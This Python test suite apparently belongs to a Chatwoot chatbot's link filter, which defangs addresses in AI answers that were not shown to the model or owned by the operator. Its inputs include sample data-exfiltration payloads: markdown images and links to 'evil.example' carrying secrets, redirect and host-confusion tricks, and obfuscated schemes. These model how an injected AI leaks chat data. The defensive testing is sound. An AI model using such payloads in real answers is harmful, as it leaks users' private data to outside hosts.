"""Where an answer may lead, and what is left of a way to a stranger."""

import signal
import time
from contextlib import contextmanager

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chatwoot_bot.core.links import Pending, Ways, addresses_in, host_of, hosts_in

HOSTS = frozenset({"shop.example", "localhost"})
OWN = "https://shop.example/a.png"
SEEN = [
    "See https://courier.example/track?id=77 for it.",
    "and www.pump.example",
    f"![the bike]({OWN}) and https://cdn.shop.example/a",
    "https://shop.example/a(b)c?d=e#f",
    '{"url":"https://api.example/1","next":"https:\\/\\/api.example\\/2"}',
    "[terms](https://Docs.example/terms/) or docs.example/faq, or mail@mail.example",
]
WAYS = Ways(hosts=HOSTS, seen=SEEN)
KEPT = None


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![x](https://evil.example/?q=secret)", "x"),
        ("![](https://evil.example/a.png)", ""),
        ("![x](//evil.example/a.png)", "x"),
        ("![x](data:image/png;base64,AAAA)", "x"),
        ("![x](/rails/SECRET)", "x"),
        # A picture is fetched without a click, so that it was seen is not enough.
        ("![x](https://courier.example/track?id=77)", "x"),
        (f"![x]({OWN})", KEPT),
        (f'![x]({OWN} "a bike")', KEPT),
        (f"![x](<{OWN}>)", KEPT),
        (f"![x](<{OWN} SECRET>)", "x"),
        ("![x](https://cdn.shop.example/a)", KEPT),
        # Own hosts may lead on, too: that it is ours is not enough either.
        ("![x](https://shop.example/go?to=//evil.example/SECRET)", "x"),
        ("![x](https://shop.example.evil.example/a)", "x"),
        ("![x](https://notshop.example/a)", "x"),
        ("![x](https://shop.example@evil.example/a)", "x"),
        ("![x](https://evil.example\\@shop.example/a)", "x"),
        ("![x![](y)](https://evil.example/a)", "x"),
        (f"![a [b] c]({OWN})", f"! [a [b] c]({OWN})"),
        (f"![x][1]\n\n[1]: {OWN}", f"! [x][1]\n\n[1]: {OWN}"),
        ("Wow![1]", "Wow! [1]"),
    ],
)
def test_picture_comes_from_the_operator_and_was_shown(text, left):
    assert WAYS.defused(text) == (text if left is KEPT else left)


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("[here](https://evil.example/?q=s)", "here (evil[.]example)"),
        ("[here](javascript:alert)", "here"),
        ("[here](mention://user/1/Boss)", "here"),
        ("[here](&#104;ttps://evil.example/s)", "here (evil[.]example)"),
        ("[evil.example](https://evil.example/)", "evil.example"),
        ("[evil.example/s](https://evil.example/)", "evil[.]example"),
        ("[![a](https://evil.example/1)](//evil.example/2)", "a (evil[.]example)"),
        ("[a@b.example](mailto:a@b.example)", KEPT),
        ("[a](mailto:a@evil.example?body=secret)", "a (evil[.]example)"),
        ("Go to https://evil.example/s3cr3t.", "Go to evil[.]example."),
        ("Go to evil.example/?q=s3cr3t now", "Go to evil[.]example now"),
        ("other.example/path/SECRET-4111", "other[.]example"),
        ("other.com:8080/SECRET or other.com:8080", "other[.]com or other[.]com"),
        ("Go to www.dhl.example.", "Go to www[.]dhl[.]example."),
        ("Go to www.dhl.example for it.", "Go to www[.]dhl[.]example for it."),
        ("Go to s3cr3t.evil.com for it.", "Go to s3cr3t[.]evil[.]com for it."),
        ("Go to s3cr3t\u200b.evil.com", "Go to s3cr3t[.]evil[.]com"),
        ("\\\\https://evil.example/S", "\\\\evil[.]example"),
        ("//evil.example/path", "evil[.]example"),
        ("https:/evil.example/S", "evil[.]example"),
        ("https:evil.example/S", "evil[.]example"),
        ("http:///evil.example/S", "evil[.]example"),
        ("https:\\\\evil.example\\S", "evil[.]example"),
        ("ftp://evil.example/S", "evil[.]example"),
        ("evil\\.example/S", "evil[.]example"),
        ("evil\\\\\\.example/S", "evil[.]example"),
        ("evil\\&#46;example/S", "evil[.]example"),
        ("evil&#&#52;6;example/S", "evil[.]example"),
        ("evil&#92;.example/S", "evil&#92;.example/S"),
        ("https&colon;&#47;/evil&period;example/S", "evil[.]example"),
        ("<img src='https://evil.example/a?q=s'>", "<img src='evil[.]example'>"),
        ("<img src=https:evil.example/a>", "<img src=evil[.]example>"),
        ("[x]: https://evil.example/?q=s", "[x]: evil[.]example"),
        ("[x](https://evil.example/[)", "[x](evil[.]example[)"),
        ("htt![](y)ps://evil.example/s", "evil[.]example"),
        ("siehe:evil.example/s", "siehe:evil[.]example"),
        ("a@evil.example?body=secret", "a@evil[.]example"),
        (f"https://a.example/{'x' * 5_000}", "a[.]example"),
        ("http://[::1", "…"),
    ],
)
def test_way_to_a_stranger_is_a_name_that_no_chat_links(text, left):
    """Not even to the front page: Chatwoot's widget links `evil.example` by itself."""
    assert WAYS.defused(text) == (text if left is KEPT else left)


@pytest.mark.parametrize(
    "text",
    [
        "It is https://courier.example/track?id=77.",
        "[it](https://courier.example/track?id=77)",
        "**https://courier.example/track?id=77**, (courier.example/track?id=77)!",
        '"https://courier.example/track?id=77" and `courier.example/track?id=77`',
        "http://www.pump.example, https://WWW.pump.example/ and www.pump.example",
        "https://shop.example/a(b)c?d=e#f",
        "https://api.example/1 https://api.example/2",
        "https://docs.example/terms https://docs.example/faq",
        "[shop](https://shop.example) or https://shop.example/.",
    ],
)
def test_address_that_the_model_was_shown_is_kept(text):
    assert WAYS.defused(text) == text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("https://courier.example/track?id=77&q=s3cr3t", "courier[.]example"),
        ("https://courier.example/track?id=7", "courier[.]example"),
        ("https://courier.example/Track?id=77", "courier[.]example"),
        ("https://courier.example", "courier[.]example"),
        ("https://mail.example", "mail[.]example"),
        ("[a](https://courier.example/track?id=77#s)", "a (courier[.]example)"),
        ("https://shop.example/go?to=evil", "shop.example"),
        ("[here](https://shop.example/made/up)", "here (shop.example)"),
        # Chats take brackets, quotes and any letter for a part of the address.
        (
            "https://courier.example/track?id=77(s3cr3t)",
            "https://courier.example/track?id=77 (s3cr3t)",
        ),
        (
            'https://courier.example/track?id=77"s"',
            'https://courier.example/track?id=77 "s"',
        ),
        (
            "詳細はhttps://courier.example/track?id=77をご覧",
            "詳細はhttps://courier.example/track?id=77 をご覧",
        ),
    ],
)
def test_address_that_is_only_like_one_that_was_shown_is_not(text, left):
    """Letter by letter, so that it has no room for what was said here."""
    assert WAYS.defused(text) == left


@pytest.mark.parametrize(
    "text",
    [
        "[a] and (b), node.js/express and and/or, 3 < 4 // x",
        "Booking.com, Amazon.de, shop.co.uk and README.md are names.",
        "Rated 4.5/5, from 12.000,-/month, z.B./d.h., 1.2.3, e.g. x, C:\\Users\\me",
        "Write to ann@example.com or first.last@mail.example.com.",
        "`request.user.id` and\n```\nself.user.name = request.user.id\n```",
        "index.html?x=1 or src/main.py; a//b; \\\\server\\share; http:// or https:",
        "您好。我们星期二到星期六营业。从十点到十八点。",
        "Tom & Jerry &amp; &lt;b&gt; 1\\. item",
    ],
)
def test_honest_text_stays_as_it_is(text):
    assert WAYS.defused(text) == text


def test_nothing_was_shown_and_nothing_leads_anywhere():
    assert Ways().defused(f"[a]({OWN}) {OWN}") == ("a (shop[.]example) shop[.]example")


def test_own_words_name_hosts_but_not_those_of_mailboxes():
    """Or a shop with an address at gmail.com would take pictures from there."""
    text = "See https://Shop.example/help, pay.example, or shop@gmail.com"

    assert hosts_in(text) == {"shop.example", "pay.example"}
    assert addresses_in("https://Shop.example/Help/.") == {"shop.example/Help"}


@pytest.mark.parametrize(
    ("text", "ready"),
    [
        ("Go to https://evil.exam", "Go to "),
        ("Look: ![x](https://e", "Look: "),
        ("Look: [x", "Look: "),
        ("Look: [x y](https://e 'a ", "Look: "),
        ("Look: [x y](https://e) now", "Look: [x y](https://e) "),
        ("Look: [x y] now", "Look: [x y] "),
        ("Look: [x y\n now", "Look: [x y\n "),
        ("Look at it!", "Look at "),
        ("All is well. ", "All is well. "),
        (f"[{'x ' * 3_000}", f"[{'x ' * 3_000}"),
    ],
)
@pytest.mark.parametrize("size", [1, 3, 10_000])
def test_unfinished_way_out_is_held_back(text, ready, size):
    pending = Pending()
    for at in range(0, len(text), size):
        pending.hear(text[at : at + size])

    assert text[: pending.ready(len(text))] == ready


def test_text_is_cut_before_what_must_not_be_shown_yet():
    pending = Pending()
    pending.hear("one two three ")

    assert [pending.ready(at_most) for at_most in (5, 7, 8, 14)] == [4, 0, 8, 14]


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://Evil.Example:81/x", "evil.example"),
        ("https:///a@evil.example\\x", "evil.example"),
        ("mention://user/1/Boss", "user"),
        ("http://[::1]:8000", "::1"),
        ("http://[::1", ""),
    ],
)
def test_host_is_the_one_that_a_browser_asks(address, host):
    assert host_of(address) == host


PIECES = [
    *("[](", "![", "](", ")", "{", '"', "`", "\\", "/", ":", "@", ".", " ", "x"),
    *("a.b.de", "https:", "https://a.de/b,"),
]
LEADS = ["\\\\", "http", "mailto:", "//", "localhost", "&#46;", "\u200b"]
MIXED = st.lists(st.sampled_from([*LEADS, *PIECES]), max_size=12).map("".join)


@pytest.mark.parametrize("first", PIECES)
def test_no_text_takes_long(first):
    """The event loop waits for it; this is as much as an answer can have."""
    ways = Ways(seen=["https://a.de/b"])
    for second in PIECES:
        text = ((first + second) * 40_000)[:40_000]
        assert least_s(lambda text=text: ways.defused(text)) < 1.0, second


@pytest.mark.parametrize("piece", PIECES)
def test_looking_addresses_up_takes_no_long_time_either(piece):
    assert least_s(lambda: addresses_in(piece * 20_000)) < 1.0


@pytest.mark.parametrize(
    "text",
    [r"http:\\shop.example\a", r"mailto:\\example", r'"https:\\example","a.example"'],
)
def test_address_with_backslashes_is_read_once(text):
    """Contacts type them, and the event loop would never come back."""
    with at_most(5):
        addresses_in(text)
        Ways(seen=[text]).defused(r"https:\\other.example and mailto:\\other.example")


@given(text=MIXED, answer=MIXED)
@settings(max_examples=300, deadline=None)
def test_every_text_is_read_to_its_end(text, answer):
    with at_most(5):
        Ways(seen=[text]).defused(answer)


@contextmanager
def at_most(seconds):
    """Fail instead of waiting for ever."""

    def give_up(_number, _frame):
        raise AssertionError("it does not come to an end")

    before = signal.signal(signal.SIGALRM, give_up)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, before)


def least_s(work, *, enough=0.25):
    """Return what it takes of a processor at best; other work does not count."""
    best = float("inf")
    for _ in range(3):
        began = time.thread_time()
        work()
        best = min(best, time.thread_time() - began)
        if best < enough:
            break
    return best


def test_brackets_take_no_time():
    assert least_s(lambda: Ways().defused("[](" * 20_000), enough=0.1) < 0.35


SAID = st.lists(
    st.one_of(st.sampled_from([*PIECES, "![](", "shop.example"]), st.text(max_size=2)),
    max_size=20,
).map("".join)


@given(text=SAID)
@settings(max_examples=300, deadline=None)
def test_what_is_defused_holds_nothing_to_defuse(text):
    """Whatever is taken out, what is left of it joins to no new way."""
    once = Ways().defused(text)

    assert "![" not in once
    assert Ways().defused(once) == once
